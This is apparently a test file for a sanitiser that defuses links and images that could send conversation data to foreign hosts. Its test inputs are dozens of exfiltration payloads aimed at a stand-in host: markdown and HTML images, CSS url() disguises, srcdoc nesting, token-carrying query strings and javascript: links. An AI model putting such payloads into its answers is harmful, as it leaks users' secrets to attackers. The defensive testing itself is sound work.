import { describe, expect, it, test } from 'vitest'
import { type LinkPolicy, neutraliseLinks } from './index.ts'

const UNTRUSTED: LinkPolicy = { images: 'own-hosts', links: 'no-data', hosts: ['own.example'], known: [] }
const PARTIAL: LinkPolicy = { ...UNTRUSTED, images: 'no-data' }
const TOKEN = 'dG9rZW49YWJjZGVmZ2hpamtsbW5vcA'
const rules = (text: string, policy = UNTRUSTED) =>
  neutraliseLinks(text, policy).found.map(({ rule }) => rule)
/** What a browser would still fetch or follow with something of the other host in it. */
const isInert = (written: string) => {
  // Of an attribute that no browser knows nothing is loaded.
  const text = written.replace(/ blocked-(?:style|srcdoc)=(?:"[^"]*"|'[^']*'|\S+)/g, '')
  return !/(?:https?:|["'(\s=])[/\\]{2}[^"'()\s]*evil/i.test(text) && !/[("'=]\s*javascript:/i.test(text)
}

describe('a picture of a foreign host is not fetched', () => {
  test.each([
    '![x](https://evil.example/p.png)',
    '![x]( <https://evil.example/p.png> "title")',
    '![x](//evil.example/p.png)',
    '![x](/\\evil.example/p.png)',
    '![x](https:evil.example/p.png)',
    '![x](https:\\\\evil.example/p.png)',
    '![x](h&#116;tps&colon;//evil.example/p.png)',
    '![x](https\\://evil.example/p.png)',
    '![x][ref]\n\n[ref]: https://evil.example/p.png',
    '![ref][]\n\n[REF]:\n  <https://evil.example/p.png>',
    '![ref]\n\n[ref]: //evil.example/p.png',
    '![a\\]b][ref]\n\n[ref]: https://evil.example/p.png',
    '![a `]` b][ref]\n\n[ref]: https://evil.example/p.png',
    '![a `[` b](https://evil.example/p.png)',
    '> ![x](https://evil.example/p.png)',
    '[![x](https://evil.example/p.png)](https://own.example/)',
    '<img src="https://evil.example/p.png">',
    "<IMG alt='>' SRC = 'https://evil.example/p.png'>",
    '<img src=https://evil.example/p.png>',
    '<img src="ht\ntps://evil.example/p.png">',
    '<img src="https:&#47;&#x2f;evil.example/p.png">',
    '<img srcset="a.png 1x, https://evil.example/p.png 2x">',
    '<video poster="https://evil.example/p.png">',
    '<link rel=stylesheet href="https://evil.example/p.css">',
    '<div style="background: url( \'https://evil.example/p.png\' )">',
    '<style>@import "https://evil.example/p.css";</style>',
    // In disguises of CSS.
    '<i style="background: u\\72l(https://evil.example/p.png)">',
    '<i style="background: \\000075\\000072\\00006c(https://evil.example/p.png)">',
    '<i style="background: url(https\\3a //evil.example/p.png)">',
    '<i style="background: url(\\68ttps://evil.example/p.png)">',
    '<style>a { background: url("\\68 ttps://evil.example/p.png") }</style>',
    '<style>a { background: url("https:\\/\\/evil.example/p.png") }</style>',
    '<i style="background: image-set(\'https://evil.example/p.png\' 1x)">',
    '<style>a { background: image-set("a.png" 1x, "https://evil.example/p.png" 2x) }</style>',
    '<style>a { background: -webkit-image-set(url(a.png) 1x, url(https://evil.example/p.png) 2x) }</style>',
    '<style>a { background: im\\61ge-set("https://evil.example/p.png" 1x) }</style>',
    '<style>a { background: image("https://evil.example/p.png") }</style>',
    '<style>a { background: cross-fade(url(a.png), "https://evil.example/p.png") }</style>',
    '<style>@\\69mport "https://evil.example/p.css";</style>',
    '<style>@\\69 mport url(https://evil.example/p.css);</style>',
    '<style>a { background: src("https://evil.example/p.png") }</style>',
    // In documents and styles whose signs are written as references.
    '<iframe srcdoc="&lt;img src=&quot;https://evil.example/p.png&quot;&gt;"></iframe>',
    "<iframe srcdoc='&lt;img src=//evil.example/p.png&gt;'></iframe>",
    '<iframe srcdoc=&lt;img&#32;src=https:&sol;&sol;evil.example/p.png&gt;></iframe>',
    '<iframe srcdoc="&#x3c;style&#x3e;@import &#39;https://evil.example/p.css&#39;"></iframe>',
    '<iframe srcdoc="&lt;iframe srcdoc=&apos;&amp;lt;img src=https://evil.example/p.png&amp;gt;&apos;&gt;"></iframe>',
    '<i style="background: u&#114;l(https://evil.example/p.png)">',
    '<i style="background: url&lpar;https://evil.example/p.png&rpar;">',
    '<i style="background: image-set(&quot;https://evil.example/p.png&quot; 1x)">',
    '<svg><image xlink:href="https://evil.example/p.png"/></svg>',
    '<svg><use href="https://evil.example/p.svg#a"/></svg>',
    '<iframe src="https://evil.example/"></iframe>',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<object data="https://evil.example/p">',
    '```\n![x](https://evil.example/p.png)',
    'text\n```\n\n```\n![x](https://evil.example/p.png)\n\n```\n',
    '<div>\n```\n\n![x](https://evil.example/p.png)\n```',
    '\\`![x](https://evil.example/p.png)`',
    '| ` | ![x](https://evil.example/p.png) | ` |',
    // Found by rendering random texts with three Markdown renderers.
    '[https://own.example/x![a](https://evil.example/p.png)',
    '[- <a href="\\\\)`![a](https://evil.example/p.png)``',
    '</div>a\\<img src="https://evil.example/p.png">',
    '](``![ref][# x\n\n[ref]: https://evil.example/p.png',
    '[ref]: https://evil.example/p.png\n\n![ref]((=x',
    '](https://own.example/-->![ref]\n\n[ref]: https://evil.example/p.png',
  ])('%j', (text) => {
    const { text: out, found } = neutraliseLinks(text, UNTRUSTED)
    expect(found.length).toBeGreaterThan(0)
    expect(isInert(out), out).toBe(true)
    expect(out).toContain('evil.example')
    expect(neutraliseLinks(out, UNTRUSTED).text).toBe(out)
  })
})

describe('a style or document of the own host, or without an address, stays as it is', () => {
  test.each([
    '<i style="background: url(a\\.png)">',
    '<style>a { content: "\\201c"; background: image-set("a.png" 1x, "b.png" 2x) }</style>',
    '<style>a::before { content: "\\00a0"; background: url("https://own.example/a\\ b.png") }</style>',
    '<iframe srcdoc="&lt;b&gt;Hello &amp; welcome&lt;/b&gt;"></iframe>',
    '<i style="font-family: &quot;Gill Sans&quot;; background: url(&quot;a.png&quot;)">',
    '<i data-style="u&#114;l(https://evil.example/p.png)">',
    'The function image("https://evil.example/p.png") of the library, and C:\\url(x).',
    '<p>call <code>src</code> (see the page) &amp; image (one)</p>',
  ])('%j', (text) => expect(neutraliseLinks(text, UNTRUSTED)).toEqual({ text, found: [] }))

  test('what is too much to be looked through is made inert, in time', () => {
    for (const piece of [
      'image(',
      'image-set("',
      'a(',
      '\\aaaaaa',
      '\\aaaaaa\\aaaaaa!a(',
      'url(\\',
      '@\\69mport ',
      ' style="&',
      "srcdoc='&lt;i style=&quot;",
      'x"y(',
    ]) {
      const text = `<i ${piece.repeat(Math.ceil((1 << 20) / piece.length))}`
      const { text: out } = neutraliseLinks(text, UNTRUSTED)
      expect(out.length).toBeGreaterThanOrEqual(text.length)
    }
    const late = `<style>a { background: image-set("${'a'.repeat(300_000)}" 1x, "https://evil.example/p.png" 2x) }`
    expect(neutraliseLinks(late, UNTRUSTED).text).toContain('image-setblocked-(')
    const long = `<iframe srcdoc="${'&lt;b&gt;'.repeat(40_000)}&lt;img src=//evil.example/x&gt;">`
    expect(neutraliseLinks(long, UNTRUSTED).text).toContain(' blocked-srcdoc=')
  })
})

describe('an address that carries data leads nowhere', () => {
  test.each([
    ['links/image-data', `![x](https://evil.example/p.png?d=${TOKEN})`, PARTIAL],
    ['links/image-data', `![x](https://evil.example/${TOKEN}/p.png)`, PARTIAL],
    ['links/image-data', `![x](https://${'a1b2c3d4e5f6a7b8'.repeat(2)}0.evil.example/p.png)`, PARTIAL],
    ['links/image-data', '![x](https://evil.example/p.png?d=my+name+is+ada+and+my+pin+is+1234)', PARTIAL],
    ['links/image-data', '![x](https://evil.example/p.png?d={{conversation}})', PARTIAL],
    ['links/image-data', `![x](https://evil.example/p.png#${TOKEN})`, PARTIAL],
    ['links/image-data', `![x](https://own.example/p.png?d=${TOKEN})`, UNTRUSTED],
    ['links/link-data', `[more](https://evil.example/?d=${TOKEN})`, UNTRUSTED],
    ['links/link-data', `<a href="https://evil.example/?d=${'x'.repeat(140)}">more</a>`, UNTRUSTED],
    ['links/userinfo', '[x](https://own.example@evil.example/)', UNTRUSTED],
    ['links/active', '[x](javascript:alert%281%29)', UNTRUSTED],
    ['links/active', '<a href="java&Tab;script:alert(1)">x</a>', UNTRUSTED],
    ['links/active', '<javascript:alert(1)>', UNTRUSTED],
    ['links/active', '<a href="javascript:a<>![a](x "t")', UNTRUSTED],
    ['links/active', '[x](data:text/html;base64,PHNjcmlwdD4=)', UNTRUSTED],
  ] as const)('%s: %j', (rule, text, policy) => {
    const { text: out, found } = neutraliseLinks(text, policy)
    expect(found.map((one) => one.rule)).toContain(rule)
    expect(isInert(out), out).toBe(true)
  })

  it('a text of the conversation in any address, plain, escaped or encoded', () => {
    const secret = 'quarterly-numbers-of-acme'
    const policy = { ...UNTRUSTED, known: [secret] }
    const forms = [
      secret,
      encodeURIComponent(secret),
      Buffer.from(secret).toString('base64url'),
      Buffer.from(secret).toString('hex'),
    ]
    for (const form of forms)
      expect(rules(`see https://evil.example/?q=${form} now`, policy)).toEqual(['links/known-data'])
    expect(rules(`see https://own.example/?q=${secret} now`, policy)).toEqual([])
  })
})

describe('what leads nowhere unasked passes byte for byte', () => {
  test.each([
    ['a badge of the same host', '[![build](https://own.example/badge.svg)](https://own.example/ci)'],
    [
      'links',
      'See [the docs](https://docs.example/guide/install?lang=en#first-steps) and <https://a.example/>.',
    ],
    [
      'a commit and a file',
      '[diff](https://git.example/o/r/commit/0123456789abcdef0123456789abcdef01234567)',
    ],
    ['relative pictures', '![x](img/a.png) <img src="/static/logo.svg"> ![y](#top)'],
    ['a picture in the text', '![dot](data:image/png;base64,iVBORw0KGgo=)'],
    [
      'security documentation',
      'An answer with `![x](https://evil.example/?d=SECRET)` leaks.\n\n```html\n<img src="https://evil.example/?d=SECRET">\n```\n',
    ],
    [
      'a signed address',
      'https://bucket.example/file.zip?X-Sig=AbC123dEf456GhI789jKl012MnO345pQr678&Expires=1700000000',
    ],
    ['code', 'const url = "https://api.example/v1?key=" + key; a[i](x); b["c"]: 1'],
    ['templates of addresses', '[API](https://api.example/users/{user_id}/posts)'],
    [
      'Persian',
      '\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 [\u0635\u0641\u062d\u0647](https://fa.example/)',
    ],
  ])('%s', (_what, text) => {
    expect(neutraliseLinks(text, UNTRUSTED)).toEqual({ text, found: [] })
  })

  it('and everything where nothing is to be held back', () => {
    const text = '![x](https://evil.example/?d={{all}}) <a href="javascript:1">x</a>'
    expect(neutraliseLinks(text, { ...UNTRUSTED, images: 'all', links: 'all' }).text).toBe(text)
  })
})
